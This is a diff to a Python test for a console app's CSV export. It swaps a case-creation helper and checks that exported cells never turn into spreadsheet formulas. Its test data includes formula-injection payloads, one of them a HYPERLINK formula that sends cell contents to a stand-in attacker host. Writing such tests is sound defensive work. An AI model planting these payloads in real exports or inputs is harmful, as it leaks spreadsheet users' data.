@@ -5,7 +5,8 @@ from __future__ import annotations
 import csv
 import io
 
-from tests.console.conftest import login, make_case, make_staff
+from tests.console.conftest import login, make_staff
+from tests.factories import console_case
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"คลิก")', "+66 ถนนพัง", "-1+1", "@SUM(A1:A9)", "\tซ่อน",
@@ -14,7 +15,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"คลิก")', "+66 ถ�
 
 def test_exported_cells_are_never_formulas_and_the_file_starts_with_a_bom(console, services):
     for text in FORMULAS:
-        make_case(services, agency_id="bma", description=text, phone=None)
+        console_case(services, agency_id="bma", description=text, phone=None)
     make_staff(services, "admin", "administrator")
     client = console.test_client()
     login(client, "admin")
